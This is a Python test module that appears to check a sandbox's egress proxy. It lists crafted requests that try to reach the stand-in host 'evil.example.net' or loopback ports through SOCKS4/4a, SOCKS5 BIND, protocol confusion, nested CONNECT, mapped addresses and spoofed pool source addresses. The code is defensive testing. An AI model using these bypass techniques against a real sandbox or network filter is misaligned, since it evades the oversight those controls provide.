"""K-13, E-05: our own ports inside, called in ways that they are not for."""
import socket

import way
import wire
from attack import SEEN, Attack

EVIL, ALLOWED, POOL = "evil.example.net", "allowed.example.com", "198.18.200.200"
OURS = "the pool of addresses is the sandbox's alone"


def request(mark):
    return wire.head(f"/{mark}", EVIL, "Connection: close")


def fake(name):
    return socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]


def ask_pool(kind, address, mark):
    return way.say(way.WAYS[kind](address, 80), request(mark))


def nested(kind, host, port, mark):
    """A proxy that is asked for itself."""
    with way.WAYS[kind](host, port) as sock:
        sock.sendall(wire.head(f"{EVIL}:80", f"{EVIL}:80", method="CONNECT"))
        way.until_empty_line(sock)
        return way.say(sock, request(mark))


def source(mark):
    """From an address of the pool, to our port: who was redirected there?"""
    sock = socket.socket()
    sock.settimeout(way.LIMIT_S)
    sock.bind((POOL, 0))
    sock.connect(way.REDIRECT)
    return way.say(sock, request(mark))


def eager(mark):
    """A greeting with many methods, a name as long as they get, and the request, all at once."""
    name = ("a" * 63 + ".") * 3 + "b" * (253 - 3 * 64 - 17) + ".wild.example.com"
    greeting = bytes((5, 200)) + bytes(range(200))
    return way.say(way.dial(way.SOCKS), greeting + wire.socks_name(name.encode(), 80) + wire.head(f"/{mark}", name))


ATTACKS = [
    Attack("k13-honest-eager", "all of SOCKS5 and a request at once, with a name of 253 bytes", eager, answer=SEEN),
    Attack("k13-redirect-port", "the redirect's port itself, and a request for another host",
           lambda m: way.say(way.dial(way.REDIRECT), request(m))),
    Attack("k13-redirect-source", "the same from an address of the pool", source, control=OURS),
    Attack("k13-http-port-origin", "the proxy's port, and a request without a proxy's target",
           lambda m: way.say(way.dial(way.HTTP), request(m)), control=OURS),
    Attack("k13-http-port-https", "a target of https at the proxy",
           lambda m: way.say(way.dial(way.HTTP), wire.head(f"https://{EVIL}/{m}", EVIL)), control=OURS),
    Attack("k13-socks4", "SOCKS4", lambda m: way.say(way.dial(way.SOCKS), b"\4\1\0\x50\x5d\xb8\xd8\x42\0", request(m)), control=OURS),
    Attack("k13-socks4a", "SOCKS4 with a name",
           lambda m: way.say(way.dial(way.SOCKS), b"\4\1\0\x50\0\0\0\1\0" + EVIL.encode() + b"\0", request(m)), control=OURS),
    Attack("k13-socks-bind", "BIND of SOCKS5",
           lambda m: way.say(way.dial(way.SOCKS), wire.GREETING, wire.socks_name(EVIL.encode(), 80, 2), request(m)), control=OURS),
    Attack("k13-socks-at-http", "SOCKS5 at the HTTP port",
           lambda m: way.say(way.dial(way.HTTP), wire.GREETING, wire.socks_name(EVIL.encode(), 80), request(m)), control=OURS),
    Attack("k13-http-at-socks", "HTTP at the SOCKS port",
           lambda m: way.say(way.dial(way.SOCKS), wire.head(f"http://{EVIL}/{m}", EVIL)), control=OURS),
    Attack("k13-eager", "all of SOCKS5 and a request at once, for a forbidden host",
           lambda m: way.say(way.dial(way.SOCKS), wire.GREETING + wire.socks_name(EVIL.encode(), 80) + request(m)), control=OURS),
    Attack("k13-eager-connect", "CONNECT and a request at once, for a forbidden host",
           lambda m: way.say(way.dial(way.HTTP), wire.head(f"{EVIL}:80", f"{EVIL}:80", method="CONNECT") + request(m))),
    *(Attack(f"k13-pool-{kind}", f"an address of the pool that no name has, by {kind}", lambda m, k=kind: ask_pool(k, POOL, m), control=OURS)
      for kind in way.WAYS),
    *(Attack(f"k13-pool-evil-{kind}", f"a forbidden name's address of the pool, by {kind}", lambda m, k=kind: ask_pool(k, fake(EVIL), m))
      for kind in way.WAYS),
    *(Attack(f"k13-pool-other-{kind}", f"an allowed name's address of the pool, Host of another, by {kind}",
             lambda m, k=kind: ask_pool(k, fake(ALLOWED), m)) for kind in way.WAYS),
    *(Attack(f"k13-loop-{kind}-{port}", f"our own port {port}, asked for by {kind}", lambda m, k=kind, p=port: nested(k, "127.0.0.1", p, m),
             control="same" if port == 3128 else OURS) for kind in ("connect", "socks") for port in (3128, 1080, 61443, 53)),
    Attack("k13-loop-mapped", "our own port, by a mapped address", lambda m: nested("socks", "::ffff:127.0.0.1", 3128, m)),
    *(Attack(f"k13-host-{kind}", f"host.sandbox.internal by {kind}, which nobody has allowed",
             lambda m, k=kind: way.get(k, "host.sandbox.internal", 80, m), at="127.0.0.1:80") for kind in way.WAYS),
    *(Attack(f"k13-localhost-{kind}", f"localhost by {kind}: the host's?", lambda m, k=kind: way.get(k, "localhost", 8080, m),
             at="127.0.0.1:8080") for kind in ("connect", "socks")),
]
